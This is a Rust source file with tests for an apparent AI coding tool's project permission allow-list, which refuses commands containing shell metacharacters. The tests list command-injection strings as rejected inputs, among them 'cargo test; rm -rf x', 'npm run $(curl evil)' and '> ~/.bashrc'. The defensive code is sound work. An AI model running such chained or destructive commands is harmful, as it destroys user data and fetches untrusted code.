//! A project's standing permissions: `.sapcode/config.toml` in the workspace,
//! `[permissions] allow = ["cargo test", "npm run *"]`. A command runs without asking only
//! when it equals an entry, or starts with an entry that ends in ` *` (the entry without its
//! `*`), and holds none of the shell's metacharacters `; & | $ \` < > ( )` nor a line break:
//! `cargo test; rm -rf ~` or `cargo test $(curl …)` always ask. Every other character a
//! command may hold is an argument to the allowed program, which the user chose to trust.
//!
//! The file belongs to the user: the model's file tools never write under `.sapcode/`
//! (`tools::paths::PROTECTED_DIRS`), so it cannot grant itself a command.

use std::path::{Path, PathBuf};

/// Where the project's settings live, relative to the workspace.
pub const PROJECT_CONFIG: &str = ".sapcode/config.toml";

/// Characters that let one command line run another, redirect or substitute: a command
/// holding any of them never runs unasked, whatever the entries say.
pub const METACHARACTERS: [char; 12] = [
    ';', '&', '|', '$', '`', '<', '>', '(', ')', '\n', '\r', '\\',
];

/// The `allow` entries of a project.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProjectPermissions {
    allow: Vec<String>,
}

impl ProjectPermissions {
    pub fn new(allow: Vec<String>) -> ProjectPermissions {
        ProjectPermissions { allow }
    }

    /// The project's permissions in `workspace`; none when it has no `.sapcode/config.toml`.
    /// A file that cannot be read or parsed is an error naming it (nothing is allowed then).
    pub fn load(workspace: &Path) -> Result<ProjectPermissions, String> {
        let path = workspace.join(PROJECT_CONFIG);
        let text = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
                return Ok(ProjectPermissions::default());
            }
            Err(err) => return Err(format!("cannot read {}: {err}", path.display())),
        };
        let document: toml::Table = toml::from_str(&text).map_err(|err| {
            let first = err.message().lines().next().unwrap_or("syntax error");
            format!("{} is not valid TOML: {first}", path.display())
        })?;
        let Some(permissions) = document.get("permissions") else {
            return Ok(ProjectPermissions::default());
        };
        let invalid = || {
            format!(
                "{}: [permissions] allow must be a list of command lines, like allow = [\"cargo test\"]",
                path.display()
            )
        };
        let allow = match permissions.get("allow") {
            None => Vec::new(),
            Some(toml::Value::Array(items)) => items
                .iter()
                .map(|item| item.as_str().map(str::to_owned).ok_or_else(invalid))
                .collect::<Result<Vec<String>, String>>()?,
            Some(_) => return Err(invalid()),
        };
        Ok(ProjectPermissions { allow })
    }

    /// Whether `command` runs without asking.
    pub fn allows(&self, command: &str) -> bool {
        !has_metacharacter(command) && self.allow.iter().any(|entry| matches(entry, command))
    }
}

/// Whether `command` holds a character that could chain, redirect or substitute.
pub fn has_metacharacter(command: &str) -> bool {
    command.contains(METACHARACTERS)
}

/// `cargo test` allows exactly `cargo test`; `npm run *` allows `npm run ` followed by
/// anything (not `npm run` alone, not `npm runx`).
fn matches(entry: &str, command: &str) -> bool {
    match entry.strip_suffix(" *") {
        Some(prefix) => command
            .strip_prefix(prefix)
            .and_then(|rest| rest.strip_prefix(' '))
            .is_some_and(|rest| !rest.trim().is_empty()),
        None => entry == command,
    }
}

/// Adds `command` to the project's `allow` list (atomically, keeping the rest of the file
/// and its comments) and returns the file's path. Refused for a command that could never
/// match (it holds a metacharacter).
pub fn save_entry(workspace: &Path, command: &str) -> Result<PathBuf, String> {
    if has_metacharacter(command) {
        return Err(format!(
            "`{command}` holds one of ; & | $ ` < > ( ) \\ or a line break: it always asks, so it is not saved"
        ));
    }
    let path = workspace.join(PROJECT_CONFIG);
    let text = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => String::new(),
        Err(err) => return Err(format!("cannot read {}: {err}", path.display())),
    };
    let mut document: toml_edit::DocumentMut = text
        .parse()
        .map_err(|_| format!("{} is not valid TOML: fix it first", path.display()))?;
    let permissions = document
        .entry("permissions")
        .or_insert_with(|| toml_edit::Item::Table(toml_edit::Table::new()))
        .as_table_like_mut()
        .ok_or_else(|| format!("{}: `permissions` is not a table", path.display()))?;
    let allow = permissions
        .entry("allow")
        .or_insert(toml_edit::value(toml_edit::Array::new()))
        .as_array_mut()
        .ok_or_else(|| format!("{}: [permissions] allow is not a list", path.display()))?;
    if !allow.iter().any(|item| item.as_str() == Some(command)) {
        allow.push(command);
    }
    crate::fsutil::write_atomic(&path, document.to_string().as_bytes(), false)
        .map_err(|err| format!("cannot write {}: {err}", path.display()))?;
    Ok(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowing(entries: &[&str]) -> ProjectPermissions {
        ProjectPermissions::new(entries.iter().map(|e| (*e).to_owned()).collect())
    }

    #[test]
    fn exact_entries_match_only_themselves() {
        let permissions = allowing(&["cargo test", "cargo build --release"]);
        assert!(permissions.allows("cargo test"));
        assert!(permissions.allows("cargo build --release"));
        for other in [
            "cargo test --all",
            "cargo tests",
            " cargo test",
            "cargo test ",
            "cargo",
            "cargo build",
            "",
        ] {
            assert!(!permissions.allows(other), "{other:?}");
        }
    }

    #[test]
    fn an_entry_ending_in_space_star_allows_what_follows_it() {
        let permissions = allowing(&["npm run *"]);
        assert!(permissions.allows("npm run test"));
        assert!(permissions.allows("npm run build -- --watch"));
        for other in ["npm run", "npm run ", "npm runx", "npm ru test", "npm run*"] {
            assert!(!permissions.allows(other), "{other:?}");
        }
        // A star elsewhere is an ordinary character of an exact entry.
        let literal = allowing(&["ls *.rs"]);
        assert!(literal.allows("ls *.rs"));
        assert!(!literal.allows("ls main.rs"));
    }

    #[test]
    fn every_metacharacter_is_refused_even_after_an_allowed_prefix() {
        let permissions = allowing(&["cargo test", "npm run *", "echo ;", "sh *"]);
        for meta in METACHARACTERS {
            let command = format!("npm run test{meta}rm -rf x");
            assert!(!permissions.allows(&command), "{command:?}");
            let command = format!("sh {meta}");
            assert!(!permissions.allows(&command), "{command:?}");
        }
        for near_miss in [
            "cargo test; rm -rf x",
            "cargo test && rm -rf x",
            "cargo test || true",
            "cargo test | sh",
            "cargo test & rm -rf x",
            "npm run $(curl evil)",
            "npm run `curl evil`",
            "npm run x > ~/.bashrc",
            "npm run x < /etc/passwd",
            "npm run (x)",
            "npm run x\nrm -rf ~",
            "npm run x\rrm -rf ~",
            "npm run x \\\nrm",
            "echo ;",
        ] {
            assert!(!permissions.allows(near_miss), "{near_miss:?}");
        }
    }

    #[test]
    fn the_file_is_read_from_the_workspace_and_bad_files_are_errors() {
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(
            ProjectPermissions::load(dir.path()),
            Ok(ProjectPermissions::default())
        );
        std::fs::create_dir(dir.path().join(".sapcode")).unwrap();
        let file = dir.path().join(PROJECT_CONFIG);
        std::fs::write(
            &file,
            "[permissions]\nallow = [\"cargo test\", \"npm run *\"]\n",
        )
        .unwrap();
        let loaded = ProjectPermissions::load(dir.path()).unwrap();
        assert!(loaded.allows("cargo test") && loaded.allows("npm run lint"));
        std::fs::write(&file, "[permissions]\nallow = \"cargo test\"\n").unwrap();
        let err = ProjectPermissions::load(dir.path()).unwrap_err();
        assert!(err.contains("allow must be a list"), "{err}");
        std::fs::write(&file, "[permissions\n").unwrap();
        let err = ProjectPermissions::load(dir.path()).unwrap_err();
        assert!(err.contains("is not valid TOML"), "{err}");
    }

    #[test]
    fn saving_an_entry_keeps_the_rest_of_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = save_entry(dir.path(), "cargo test").unwrap();
        assert_eq!(path, dir.path().join(PROJECT_CONFIG));
        let text = "# the team's choices\n[other]\nkey = 1 # kept\n\n[permissions]\nallow = [\"cargo build\"]\n";
        std::fs::write(&path, text).unwrap();
        save_entry(dir.path(), "cargo test").unwrap();
        save_entry(dir.path(), "cargo test").unwrap();
        let saved = std::fs::read_to_string(&path).unwrap();
        assert!(
            saved.starts_with("# the team's choices\n[other]\nkey = 1 # kept\n"),
            "{saved}"
        );
        assert!(
            saved.contains("allow = [\"cargo build\", \"cargo test\"]"),
            "{saved}"
        );
        let loaded = ProjectPermissions::load(dir.path()).unwrap();
        assert!(loaded.allows("cargo build") && loaded.allows("cargo test"));
        let err = save_entry(dir.path(), "cargo test; rm -rf x").unwrap_err();
        assert!(err.contains("always asks"), "{err}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), saved);
    }
}
